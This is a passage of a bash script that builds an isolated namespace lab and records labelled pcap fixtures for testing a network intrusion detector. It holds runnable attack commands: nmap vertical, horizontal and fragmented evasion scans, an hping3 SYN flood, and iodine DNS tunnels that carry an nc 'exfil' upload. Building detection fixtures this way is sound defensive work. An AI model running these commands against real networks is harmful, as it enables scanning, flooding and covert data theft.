#!/usr/bin/env bash
# make-lab-captures.sh — build a small lab network from Linux network
# namespaces, run real tools in it (nmap, hping3, iodine, ptunnel-ng, dnsmasq,
# dns2tcp, python http.server, sshd, nc), capture each scenario with tcpdump on the lab
# bridge, and write fixtures/lab/<scenario>.pcap plus <scenario>.truth.json.
#
# Run (as root; it apt-get installs what is missing):
#   sudo bash scripts/lab/make-lab-captures.sh                 # every scenario
#   sudo bash scripts/lab/make-lab-captures.sh scan-vertical   # one (or several)
#   sudo bash scripts/lab/make-lab-captures.sh --list          # scenario names
#   FLOWHOUND_LAB_OUT=/tmp/x sudo -E bash scripts/lab/make-lab-captures.sh ...
#
# Scenarios: benign-1 benign-2 benign-3 benign-4 scan-vertical scan-fragmented scan-horizontal
#            rate-spike rate-control dns-tunnel-iodine dns-tunnel-iodine-raw dns-tunnel-dns2tcp-key icmp-tunnel-ptunnel
#            scan-stealth scan-ipproto scan-distributed scan-arp policy-2012 midstream
#            beacon (20 minutes of real time)
#            rate-spike-icmp-flood rate-spike-icmp-flood-noreply benign-fast-ping icmp-tunnel-icmptx
#
# Lab (all inside namespaces named fhlab-*, bridge br0 inside fhlab-sw; nothing
# is configured in the root namespace and no traffic leaves the lab):
#   10.77.0.10  client c1          10.77.0.11  client c2
#   10.77.0.20  web (http :80, :8080; python3 http.server)
#   10.77.0.30  srv (sshd :22, nc sink :9000, NTP-like UDP :123, UDP sink :5140)
#   10.77.0.53  resolver (dnsmasq; local data for lab.example, example.{com,org,net};
#               forwards t.lab.example to 10.77.0.70)
#   10.77.0.66  scanner            10.77.0.70  iodined (t.lab.example)
#   10.77.0.61-65  bot1-bot5 (a distributed scan's sources)   10.77.0.88  cc (http :8000, a beacon's server)
#   10.77.0.71  ptunnel-ng proxy   10.77.0.100-130 farm (live; :23 open on .105 .117 .124)
#   10.77.0.131-140 dead (static neighbour entries in the scanner and bots only; no host answers)
#
# Every step is bounded with `timeout`; the lab is torn down on exit (trap),
# and an earlier run's leftovers (fhlab-* namespaces) are removed first, so the
# script is idempotent. Sizes, counts, rates and seeds are fixed, so reruns give
# comparable captures (timestamps and TCP sequence numbers differ).
set -euo pipefail

REPO=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
OUT=${FLOWHOUND_LAB_OUT:-$REPO/fixtures/lab}
HELPER=$REPO/scripts/lab/lab-helper.py
PY=/usr/bin/python3
P=${FLOWHOUND_LAB_PREFIX:-fhlab}   # namespace prefix (another prefix lets a long scenario run beside a short one)
NET=10.77.0
SNAPLEN=${FLOWHOUND_LAB_SNAPLEN:-256}
ALL_SCENARIOS=(scan-ipproto bulk-upload new-listener dns-volume beacon scan-stealth scan-distributed scan-arp policy-2012 midstream scan-vertical scan-fragmented scan-horizontal rate-spike rate-control benign-1 benign-2 benign-3 benign-4 dns-tunnel-iodine dns-tunnel-iodine-raw dns-tunnel-dns2tcp-key icmp-tunnel-ptunnel rate-spike-icmp-flood rate-spike-icmp-flood-noreply benign-fast-ping icmp-tunnel-icmptx)
RULE_KINDS='["scan.vertical","scan.horizontal","tunnel.dns","tunnel.icmp","rate.spike"]'

log() { printf '[lab %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

if [[ ${1:-} == --list ]]; then printf '%s\n' "${ALL_SCENARIOS[@]}"; exit 0; fi
[[ $(id -u) == 0 ]] || die "run as root (network namespaces, raw sockets)"

# ------------------------------------------------------------------ packages
need_packages() {
  local missing=()
  local -A pkg=([nmap]=nmap [hping3]=hping3 [iodine]=iodine [iodined]=iodine [ptunnel-ng]=ptunnel-ng
    [tcpdump]=tcpdump [tshark]=tshark [capinfos]=wireshark-common [dnsmasq]=dnsmasq-base [sshd]=openssh-server
    [ssh]=openssh-client [nc]=netcat-openbsd [dig]=bind9-dnsutils [jq]=jq [ping]=iputils-ping [ip]=iproute2
    [arp-scan]=arp-scan [ethtool]=ethtool [dns2tcpc]=dns2tcp [dns2tcpd]=dns2tcp)
  for c in "${!pkg[@]}"; do command -v "$c" >/dev/null 2>&1 || [[ -x /usr/sbin/$c ]] || missing+=("${pkg[$c]}"); done
  [[ -x $PY ]] || missing+=(python3)
  if ((${#missing[@]})); then
    log "installing: ${missing[*]}"
    apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${missing[@]}" >/dev/null
  fi
}

# ------------------------------------------------------------------ lab plumbing
WORK=""
PIDS=()
CMDS=()      # exact commands of the running scenario, for the truth file
nsx() { local n=$1; shift; ip netns exec "$P-$n" "$@"; }
# run in a namespace and record the command line for the truth file
rec() { CMDS+=("ip netns exec $P-$1 ${*:2}"); }
spawn() { local n=$1; shift; ip netns exec "$P-$n" "$@" >>"$WORK/$n.log" 2>&1 & PIDS+=($!); }

teardown() {
  set +e
  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
  for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill "$pid" 2>/dev/null; done
  done
  sleep 0.5
  for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null; done
    ip netns del "$ns" 2>/dev/null
  done
  PIDS=()
  [[ -n $WORK && -d $WORK ]] && rm -rf "$WORK"
}

add_host() { # add_host NAME HOSTBYTE [extra addresses...]
  local n=$1 hb=$2; shift 2
  ip netns add "$P-$n"
  ip link add "v-$n" netns "$P-sw" type veth peer name eth0 netns "$P-$n"
  nsx sw ip link set "v-$n" master br0 up
  nsx "$n" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  nsx "$n" ip link set eth0 address "$(printf '02:77:00:00:00:%02x' "$hb")"
  nsx "$n" ip addr add "$NET.$hb/24" dev eth0
  for a in "$@"; do nsx "$n" ip addr add "$a/24" dev eth0; done
  nsx "$n" ip link set lo up
  nsx "$n" ip link set eth0 up
}

lab_up() {
  teardown
  WORK=$(mktemp -d /tmp/fhlab.XXXXXX)
  chmod 755 "$WORK"
  ip netns add "$P-sw"
  nsx sw sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  nsx sw ip link add br0 type bridge stp_state 0 forward_delay 0
  nsx sw ip link set br0 up
  nsx sw ip link set lo up
  add_host c1 10; add_host c2 11; add_host web 20; add_host srv 30; add_host dns 53
  add_host scan 66; add_host tun 70; add_host icmp 71; add_host cc 88
  for i in 1 2 3 4 5; do add_host "bot$i" $((60 + i)); done   # a distributed scan's sources, 10.77.0.61-65
  local farm=()
  for i in $(seq 101 130); do farm+=("$NET.$i"); done
  add_host farm 100 "${farm[@]}"
  for i in $(seq 131 140); do # dead targets: frames go out on the bridge, nobody answers
    for n in scan bot1 bot2 bot3 bot4 bot5; do
      nsx "$n" ip neigh replace "$NET.$i" lladdr "$(printf '02:77:de:ad:00:%02x' "$i")" dev eth0 nud permanent
    done
  done
  services_up
}

services_up() {
  # web: a static site on :80 and :8080
  "$PY" "$HELPER" mkweb "$WORK/www"
  spawn web "$PY" -m http.server 80 --bind "$NET.20" --directory "$WORK/www"
  spawn web "$PY" -m http.server 8080 --bind "$NET.20" --directory "$WORK/www"
  # srv: sshd (key login), nc sink, NTP-like UDP, UDP sink (syslog-like control stream)
  ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh_host" -C lab-host
  ssh-keygen -q -t ed25519 -N '' -f "$WORK/id_lab" -C lab-client
  cp "$WORK/id_lab.pub" "$WORK/authorized_keys"
  mkdir -p /run/sshd
  cat >"$WORK/sshd_config" <<EOF
Port 22
ListenAddress $NET.30
HostKey $WORK/ssh_host
PermitRootLogin prohibit-password
AuthorizedKeysFile $WORK/authorized_keys
PidFile $WORK/sshd.pid
UsePAM no
StrictModes no
PasswordAuthentication no
EOF
  spawn srv /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
  spawn srv nc -lk "$NET.30" 9000
  spawn srv "$PY" "$HELPER" ntp-server 123
  spawn srv "$PY" "$HELPER" udp-sink 5140
  # resolver
  cat >"$WORK/dnsmasq.conf" <<EOF
port=53
listen-address=$NET.53
bind-interfaces
no-resolv
no-hosts
no-poll
user=root
pid-file=$WORK/dnsmasq.pid
log-facility=$WORK/dnsmasq-queries.log
local=/lab.example/example.com/example.org/example.net/
server=/t.lab.example/$NET.70
host-record=www.lab.example,$NET.20
host-record=intranet.lab.example,$NET.20
host-record=wiki.lab.example,$NET.20
host-record=files.lab.example,$NET.30
host-record=mail.lab.example,$NET.25
mx-host=lab.example,mail.lab.example,10
host-record=www.example.com,$NET.20
host-record=api.example.com,$NET.20
host-record=mail.example.com,$NET.25
mx-host=example.com,mail.example.com,10
host-record=cdn.example.org,$NET.20
host-record=www.example.org,$NET.20
host-record=updates.example.net,$NET.30
EOF
  spawn dns dnsmasq -k -C "$WORK/dnsmasq.conf"
  # cc: a "new host" serving http on :8000 (the beacon's command-and-control server)
  spawn cc "$PY" -m http.server 8000 --bind "$NET.88" --directory "$WORK/www"
  # farm: a few telnet-like listeners
  for h in 105 117 124; do spawn farm nc -lk "$NET.$h" 23; done
  "$PY" "$HELPER" mkfile "$WORK/transfer-40k.bin" 40000 7
  sleep 1.5
  local want
  for want in "cc $NET.88:8000" "web $NET.20:80" "web $NET.20:8080" "srv $NET.30:22" "srv $NET.30:9000" "farm $NET.105:23"; do
    nsx ${want%% *} ss -ltn | grep -q "${want#* } " || { tail -n 20 "$WORK"/*.log >&2; die "not listening: $want"; }
  done
  nsx c1 dig +short +tries=1 +time=2 "@$NET.53" www.lab.example A | grep -q "$NET.20" || die "dnsmasq not answering"
}

# ------------------------------------------------------------------ capture
CAP_PID=""
capture_start() { # capture_start NAME [SNAPLEN]
  local name=$1 snap=${2:-$SNAPLEN}
  CMDS=("ip netns exec $P-sw tcpdump -i br0 -s $snap -U -w $name.pcap")
  rm -f "$WORK/tcpdump.err"
  ip netns exec "$P-sw" tcpdump -i br0 -s "$snap" -U -Z root -w "$WORK/$name.pcap" 2>"$WORK/tcpdump.err" &
  CAP_PID=$!
  for _ in $(seq 50); do grep -q listening "$WORK/tcpdump.err" 2>/dev/null && break; sleep 0.1; done
  log "capturing $name (snaplen $snap)"
}
capture_stop() { # capture_stop NAME
  local name=$1
  sleep 1
  kill -INT "$CAP_PID"; wait "$CAP_PID" || true
  mkdir -p "$OUT"
  cp "$WORK/$name.pcap" "$OUT/$name.pcap"
  log "$name: $(tail -n 3 "$WORK/tcpdump.err" | tr '\n' ' ')"
}

benign_bg() { # benign_bg SEED DURATION [extra args for client c1]; c2 runs a lighter mix
  local seed=$1 dur=$2; shift 2
  local a=(--seed "$seed" --duration "$dur" --web "$NET.20" --dns "$NET.53" --srv "$NET.30")
  rec c1 "$PY" lab-helper.py benign "${a[@]}" "$@"
  spawn c1 timeout $((dur + 30)) "$PY" "$HELPER" benign "${a[@]}" "$@"
  local b=(--seed $((seed + 100)) --duration "$dur" --web "$NET.20" --dns "$NET.53" --srv "$NET.30" --min-pause 3 --max-pause 9 --page-loads 1)
  rec c2 "$PY" lab-helper.py benign "${b[@]}"
  spawn c2 timeout $((dur + 30)) "$PY" "$HELPER" benign "${b[@]}"
  BENIGN_PIDS=("${PIDS[@]: -2}")
}
wait_benign() { for p in "${BENIGN_PIDS[@]}"; do wait "$p" || true; done; }

HOSTS_JSON=$(jq -n --arg n "$NET" '{client1:"\($n).10",client2:"\($n).11",web:"\($n).20",server:"\($n).30",resolver:"\($n).53",scanner:"\($n).66",iodineServer:"\($n).70",ptunnelProxy:"\($n).71",farm:"\($n).100-\($n).130",deadTargets:"\($n).131-\($n).140"}')

# EXCLUSIVE=true: no finding beyond the expected ones may appear (the lab test checks it).
# MODEL_TARGET=false: the attack changes no per-port window (a beacon, an ARP sweep); the model evaluation skips it.
# NOT_EXPECTED (JSON list, optional): specific findings that must not fire even
# though their kind may fire elsewhere in the capture (e.g. the control stream).
write_truth() { # write_truth NAME DESCRIPTION TOOL EXPECTED_JSON EXPECT_NONE_JSON CHECKS_JSON [NOTES]
  local name=$1
  jq -n --arg path "$OUT/$1.pcap" --arg description "$2" --arg tool "$3" --argjson expected "$4" \
    --argjson expectNone "$5" --argjson checks "$6" --arg notes "${7:-}" --argjson hosts "$HOSTS_JSON" \
    --argjson commands "$(printf '%s\n' "${CMDS[@]}" | jq -R . | jq -s .)" --argjson notExpected "${NOT_EXPECTED:-[]}" \
    --argjson modelTarget "${MODEL_TARGET:-true}" --argjson exclusive "${EXCLUSIVE:-false}" --argjson modelExpected "${MODEL_EXPECTED:-[]}" \
    '{path:$path,description:$description,tool:$tool,expected:$expected,expectNone:$expectNone,notExpected:$notExpected,checks:$checks,hosts:$hosts,commands:$commands,modelTarget:$modelTarget,exclusive:$exclusive,modelExpected:$modelExpected} + (if $notes == "" then {} else {notes:$notes} end)' \
    >"$WORK/$name.spec.json"
  "$PY" "$HELPER" truth "$WORK/$name.spec.json" >&2
}

# ------------------------------------------------------------------ scenarios
scenario_benign() { # benign-N: seeds and lengths vary
  local n=$1 name=benign-$1 dur extra=()
  case $n in
    1) dur=90; extra=(--page-loads 2 --ssh-key "$WORK/id_lab" --transfer "$WORK/transfer-40k.bin" --ping --nxdomain) ;;
    2) dur=90; extra=(--page-loads 3 --ssh-key "$WORK/id_lab" --min-pause 0.5 --max-pause 4) ;;
    3) dur=120; extra=(--page-loads 2 --transfer "$WORK/transfer-40k.bin" --ping --min-pause 1.5 --max-pause 6) ;;
    4) dur=60; extra=(--page-loads 1 --ssh-key "$WORK/id_lab" --nxdomain --min-pause 0.8 --max-pause 3) ;;
  esac
  capture_start "$name"
  benign_bg $((n * 11)) "$dur" "${extra[@]}"
  wait_benign
  capture_stop "$name"
  write_truth "$name" "Benign background only: web page fetches (incl. short page-load bursts of ~30 objects), DNS A/AAAA/MX through dnsmasq, NTP-like UDP, $(printf '%s' "${extra[*]}" | grep -q ssh && echo 'one ssh login, ')$(printf '%s' "${extra[*]}" | grep -q transfer && echo 'one 40 kB nc transfer, ')$(printf '%s' "${extra[*]}" | grep -q ping && echo 'one ping -c 3, ')two clients, ${dur} s. No scans, tunnels or floods." \
    "python3 lab-helper.py benign (dig, urllib, ssh, nc, ping)" '[]' "$RULE_KINDS" \
    '[{"name":"synNoAck","filter":"tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"rsts","filter":"tcp.flags.reset==1"},{"name":"dnsQueries","filter":"dns.flags.response==0"},{"name":"nxdomain","filter":"dns.flags.rcode==3"},{"name":"icmpEcho","filter":"icmp.type==8"}]' \
    "Held-out suggestion: train on benign-1..3, hold out benign-4 (or any split). baseline.deviation is not asserted."
}

scenario_scan_vertical() {
  local name=scan-vertical
  capture_start "$name"
  benign_bg 21 45 --page-loads 1
  sleep 10
  local cmd=(nmap -sS -Pn -n -p 1-1000 --max-rate 200 --max-retries 1 "$NET.20")
  rec scan "${cmd[@]}"
  nsx scan timeout 60 "${cmd[@]}" >"$WORK/nmap-vertical.txt" 2>&1 || log "nmap exit $?"
  wait_benign
  capture_stop "$name"
  write_truth "$name" "nmap SYN scan of ports 1-1000 of the web server (10.77.0.20) from the scanner (10.77.0.66), max 200 probes/s, starting ~10 s in, with benign web/DNS/NTP background from two clients. Only 80 is open in that range (8080 is open but outside it)." \
    "$(nmap --version | head -1) -sS -Pn -n -p 1-1000 --max-rate 200 --max-retries 1" \
    '[{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.20","port":null}]' \
    '["scan.horizontal","tunnel.dns","tunnel.icmp"]' \
    '[{"name":"scannerSyns","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"scannerDistinctPorts","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"tcp.dstport"},{"name":"rstAckFromTarget","filter":"ip.src==10.77.0.20 && ip.dst==10.77.0.66 && tcp.flags.reset==1"},{"name":"synAckFromTarget","filter":"ip.src==10.77.0.20 && ip.dst==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==1"}]' \
    "The probes go to 1000 different ports (one SYN each), so no (10.77.0.20, port) gets > 20 pps. But nmap uses one source port, so the target's ~200 RST/s all go to (10.77.0.66, that port) for ~5 s (see verified.rateRunsOver20pps): rate.spike is therefore neither expected nor forbidden here. Web page-load bursts to 10.77.0.20:80 exceed 20 pps for at most 2 s."
  cat "$WORK/nmap-vertical.txt" >&2
}

scenario_scan_fragmented() { # the vertical scan with every probe cut into 8-byte IP fragments (evasion)
  local name=scan-fragmented
  capture_start "$name"
  benign_bg 23 40 --page-loads 1
  sleep 8
  local cmd=(nmap -sS -f -Pn -n -p 1-600 --max-rate 200 --max-retries 1 "$NET.30")
  rec scan "${cmd[@]}"
  nsx scan timeout 60 "${cmd[@]}" >"$WORK/nmap-fragmented.txt" 2>&1 || log "nmap exit $?"
  wait_benign
  capture_stop "$name"
  write_truth "$name" "nmap SYN scan of ports 1-600 of the server (10.77.0.30) from the scanner (10.77.0.66) with -f: every probe is sent as three IPv4 fragments of at most 8 bytes of TCP header each (the first carries only the ports and sequence number, not the flags), the evasion IDS rules without reassembly miss. Max 200 probes/s, starting ~8 s in, with benign background from two clients. Open in that range: 22 (sshd)." \
    "$(nmap --version | head -1) -sS -f -Pn -n -p 1-600 --max-rate 200 --max-retries 1" \
    '[{"kind":"scan.vertical","src":"10.77.0.66","dst":"10.77.0.30","port":null}]' \
    '["scan.horizontal","tunnel.dns","tunnel.icmp"]' \
    '[{"name":"scannerFragments","filter":"ip.src==10.77.0.66 && (ip.flags.mf==1 || ip.frag_offset>0)"},{"name":"scannerReassembledSyns","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"scannerDistinctPorts","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"tcp.dstport"},{"name":"rstAckFromTarget","filter":"ip.src==10.77.0.30 && ip.dst==10.77.0.66 && tcp.flags.reset==1"}]' \
    "Only the probes are fragmented; the target's RST/ACK and SYN/ACK answers are whole packets. Without reassembly a reader sees the first fragments as TCP with cut headers and no connections from the scanner. tshark reassembles the probes, so the verified counts are of whole SYNs. rate.spike is not asserted either way (the target's RSTs all go to the scanner's one source port)."
  cat "$WORK/nmap-fragmented.txt" >&2
}

scenario_scan_horizontal() {
  local name=scan-horizontal
  capture_start "$name"
  benign_bg 31 45 --page-loads 1
  sleep 10
  local cmd=(nmap -sS -Pn -n --send-ip -p 23 --max-rate 100 --max-retries 1 "$NET.100-140")
  rec scan "${cmd[@]}"
  nsx scan timeout 60 "${cmd[@]}" >"$WORK/nmap-horizontal.txt" 2>&1 || log "nmap exit $?"
  wait_benign
  capture_stop "$name"
  write_truth "$name" "nmap SYN scan of port 23 across 10.77.0.100-140 (41 targets) from the scanner 10.77.0.66: .100-.130 are live (23 open on .105 .117 .124, RST elsewhere), .131-.140 are dead (no answer; the scanner has static neighbour entries so the SYNs do go out). Benign background from two clients." \
    "$(nmap --version | head -1) -sS -Pn -n --send-ip -p 23 --max-rate 100 --max-retries 1 10.77.0.100-140" \
    '[{"kind":"scan.horizontal","src":"10.77.0.66","dst":null,"port":23}]' \
    '["scan.vertical","tunnel.dns","tunnel.icmp","rate.spike"]' \
    '[{"name":"scannerSyns","filter":"ip.src==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"scannerDistinctHosts","filter":"ip.src==10.77.0.66 && tcp.dstport==23 && tcp.flags.syn==1 && tcp.flags.ack==0","distinct":"ip.dst"},{"name":"rstsToScanner","filter":"ip.dst==10.77.0.66 && tcp.flags.reset==1"},{"name":"synAcksToScanner","filter":"ip.dst==10.77.0.66 && tcp.flags.syn==1 && tcp.flags.ack==1"}]'
  cat "$WORK/nmap-horizontal.txt" >&2
}

control_stream() { # UDP syslog-like sender from c2 to srv:5140, 10 pps for 30 s
  local cmd=("$PY" lab-helper.py udp-send "$NET.30" 5140 10 300 120)
  rec c2 "${cmd[@]}"
  spawn c2 timeout 45 "$PY" "$HELPER" udp-send "$NET.30" 5140 10 300 120
  CONTROL_PID=${PIDS[-1]}
}

scenario_rate_spike() {
  local name=rate-spike
  capture_start "$name"
  benign_bg 41 50 --page-loads 1
  sleep 5
  control_stream
  sleep 15
  local cmd=(hping3 -q -S -p 8080 -i u10000 -c 800 "$NET.20")
  rec scan "${cmd[@]}"
  nsx scan timeout 30 "${cmd[@]}" >"$WORK/hping3.txt" 2>&1 || log "hping3 exit $?"
  wait "$CONTROL_PID" || true
  wait_benign
  capture_stop "$name"
  NOT_EXPECTED='[{"kind":"rate.spike","dst":"10.77.0.30","port":5140,"proto":"udp","why":"10 pps control stream"}]' write_truth "$name" "hping3 SYN flood from 10.77.0.66 to 10.77.0.20:8080 (an open http port), 800 SYNs at ~100/s (8 s), starting ~20 s in; plus a control stream of UDP datagrams 10.77.0.11 -> 10.77.0.30:5140 at 10 pps for 30 s (must not fire), plus benign background." \
    "hping3 3.0.0-alpha-2 -S -p 8080 -i u10000 -c 800" \
    '[{"kind":"rate.spike","src":"10.77.0.66","dst":"10.77.0.20","port":8080}]' \
    '["scan.vertical","scan.horizontal","tunnel.dns","tunnel.icmp"]' \
    '[{"name":"floodSyns","filter":"ip.src==10.77.0.66 && ip.dst==10.77.0.20 && tcp.dstport==8080 && tcp.flags.syn==1 && tcp.flags.ack==0"},{"name":"controlDatagrams","filter":"ip.dst==10.77.0.30 && udp.dstport==5140"}]' \
    "The control stream 10.77.0.30:5140/udp (10 pps) must NOT yield rate.spike. The flood is one source to one port, so it is not a scan."
  cat "$WORK/hping3.txt" >&2
}

scenario_rate_control() {
  local name=rate-control
  capture_start "$name"
  benign_bg 51 45 --page-loads 1
  sleep 5
  control_stream
  wait "$CONTROL_PID" || true
  wait_benign
  capture_stop "$name"
  NOT_EXPECTED='[{"kind":"rate.spike","dst":"10.77.0.30","port":5140,"proto":"udp","why":"10 pps control stream"}]' write_truth "$name" "Control only: UDP datagrams 10.77.0.11 -> 10.77.0.30:5140 at 10 pps for 30 s (300 datagrams), plus benign background. Nothing here exceeds 20 pps for 5 s." \
    "python3 lab-helper.py udp-send 10.77.0.30 5140 10 300 120" '[]' "$RULE_KINDS" \
    '[{"name":"controlDatagrams","filter":"ip.dst==10.77.0.30 && udp.dstport==5140"}]'
}

# start_iodined BYTES SECS [IODINED OPTIONS...]: writes BYTES of seeded data to $WORK/exfil.bin, starts iodined
# (10.77.0.70, t.lab.example) and an nc sink on its tunnel address in the tun namespace for SECS at most;
# IODINED_CMD holds the iodined command, IODINED_PID and SINK_PID the two processes.
start_iodined() {
  local bytes=$1 secs=$2
  shift 2
  [[ -c /dev/net/tun ]] || { modprobe tun 2>/dev/null || true; mkdir -p /dev/net; [[ -c /dev/net/tun ]] || mknod /dev/net/tun c 10 200; }
  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" "$bytes" 99
  IODINED_CMD=(iodined -f -c -l "$NET.70" -P labsecret "$@" 192.168.99.1 t.lab.example)
  spawn tun timeout "$secs" "${IODINED_CMD[@]}"
  IODINED_PID=${PIDS[-1]}
  for _ in $(seq 30); do nsx tun ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99.1 && break; sleep 0.3; done
  spawn tun timeout "$secs" sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received"
  SINK_PID=${PIDS[-1]}
  sleep 1
  nsx tun ss -ltn | grep -q '192.168.99.1:5001 ' || { cat "$WORK/tun.log" >&2; die "iodined/nc listener not up"; }
}

scenario_dns_tunnel() {
  local name=dns-tunnel-iodine
  start_iodined 100000 120 -m 1200
  capture_start "$name" 1600
  CMDS+=("ip netns exec $P-tun ${IODINED_CMD[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
  benign_bg 61 60 --page-loads 1 --min-pause 2 --max-pause 6
  sleep 3
  local cli=(iodine -f -r -P labsecret -m 1200 "$NET.53" t.lab.example)
  rec c1 "${cli[@]}"
  spawn c1 timeout 70 "${cli[@]}"
  local IOD_PID=${PIDS[-1]}
  for _ in $(seq 30); do nsx c1 ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99 && break; sleep 1; done
  nsx c1 ip -4 addr show dns0 | grep -q 192.168.99 || { cat "$WORK/c1.log" >&2; die "iodine tunnel did not come up"; }
  rec c1 "nc -N -w 5 192.168.99.1 5001 < exfil.bin   # 100000 bytes, seeded random"
  nsx c1 timeout 50 nc -N -w 5 192.168.99.1 5001 <"$WORK/exfil.bin" || log "nc over iodine exit $?"
  sleep 2
  kill "$IOD_PID" 2>/dev/null || true
  wait_benign
  capture_stop "$name"
  log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 100000 bytes"
  write_truth "$name" "iodine 0.7.0 DNS tunnel: client 10.77.0.10 -> resolver dnsmasq 10.77.0.53 -> iodined 10.77.0.70 (authoritative for t.lab.example), relay mode (-r, no raw UDP), carrying a 100000-byte nc upload through the tunnel (iodine autodetects the upstream codec through dnsmasq: in the committed capture it chose 8-bit Base128 labels, i.e. query names with raw non-ASCII bytes); plus benign background from both clients. The bridge sees both legs: client->resolver and resolver->iodined." \
    "iodine 0.7.0 -f -r -P *** -m 1200 10.77.0.53 t.lab.example; iodined -f -c -l 10.77.0.70 -P *** -m 1200 192.168.99.1 t.lab.example" \
    '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.53","port":53,"domain":"t.lab.example","leg":"client to resolver"},{"kind":"tunnel.dns","src":"10.77.0.53","dst":"10.77.0.70","port":53,"domain":"t.lab.example","leg":"resolver to iodined (forwarded)"}]' \
    '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
    '[{"name":"tunnelQueries","filter":"dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"tunnelQueriesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\""},{"name":"uniqueTunnelNamesFromClient","filter":"ip.src==10.77.0.10 && dns.flags.response==0 && dns.qry.name contains \"t.lab.example\"","distinct":"dns.qry.name"},{"name":"nullQueries","filter":"dns.flags.response==0 && dns.qry.type==10"},{"name":"benignQueries","filter":"dns.flags.response==0 && !(dns.qry.name contains \"t.lab.example\")"},{"name":"ipFragments","filter":"ip.flags.mf==1 || ip.frag_offset>0"}]' \
    "rate.spike is not listed in expectNone: the tunnel's query rate to 10.77.0.53:53 may exceed 20 pps for several seconds (see verified.rateRunsOver20pps); whether that is a spike is the detector's call."
}

scenario_dns_tunnel_iodine_raw() { # iodine's default mode: a handshake through the resolver, then raw UDP to iodined's port 53
  local name=dns-tunnel-iodine-raw
  start_iodined 60000 100
  capture_start "$name" 1600
  CMDS+=("ip netns exec $P-tun ${IODINED_CMD[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
  benign_bg 63 50 --page-loads 1 --min-pause 2 --max-pause 6
  sleep 3
  local cli=(iodine -f -P labsecret "$NET.53" t.lab.example)
  : >"$WORK/c1.log"
  rec c1 "${cli[@]}"
  spawn c1 timeout 60 "${cli[@]}"
  local IOD_PID=${PIDS[-1]}
  for _ in $(seq 40); do grep -q 'Connection setup complete' "$WORK/c1.log" 2>/dev/null && break; sleep 1; done
  grep -q 'Connection setup complete' "$WORK/c1.log" || { tail -n 20 "$WORK/c1.log" >&2; die "iodine tunnel did not come up"; }
  grep -q 'raw UDP' "$WORK/c1.log" || log "WARNING: iodine did not report raw UDP mode: $(grep -i raw "$WORK/c1.log" | tail -n 3)"
  rec c1 "nc -N -w 10 192.168.99.1 5001 < exfil.bin   # 60000 bytes, seeded random, once iodine says 'Connection setup complete'"
  nsx c1 timeout 45 nc -N -w 10 192.168.99.1 5001 <"$WORK/exfil.bin" || log "nc over iodine exit $?"
  sleep 2
  kill "$IOD_PID" 2>/dev/null || true
  wait_benign
  capture_stop "$name"
  log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 60000 bytes"
  grep -iE 'raw|codec|fragsize|switch' "$WORK/c1.log" | tail -n 8 >&2 || true
  kill "$IODINED_PID" "$SINK_PID" 2>/dev/null || true
  wait "$IODINED_PID" 2>/dev/null || true
  write_truth "$name" "iodine 0.7.0 in its default mode (no -r): client 10.77.0.10 makes its handshake queries through the resolver dnsmasq 10.77.0.53 (forwarded to iodined 10.77.0.70, authoritative for t.lab.example), finds iodined answering directly and then sends everything as raw UDP to 10.77.0.70:53 (iodine's raw packets: magic bytes 10 d1 9e, not DNS), carrying a 60000-byte nc upload through the tunnel; plus benign background from both clients. The tunnel's data is non-DNS traffic on the DNS port (Suricata/ET 'Non-DNS or Non-Compliant DNS traffic on DNS port')." \
    "iodine 0.7.0 -f -P *** 10.77.0.53 t.lab.example; iodined -f -c -l 10.77.0.70 -P *** 192.168.99.1 t.lab.example" \
    '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.70","port":53,"leg":"raw UDP from the client to iodined port 53 (non-DNS on port 53)"}]' \
    '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
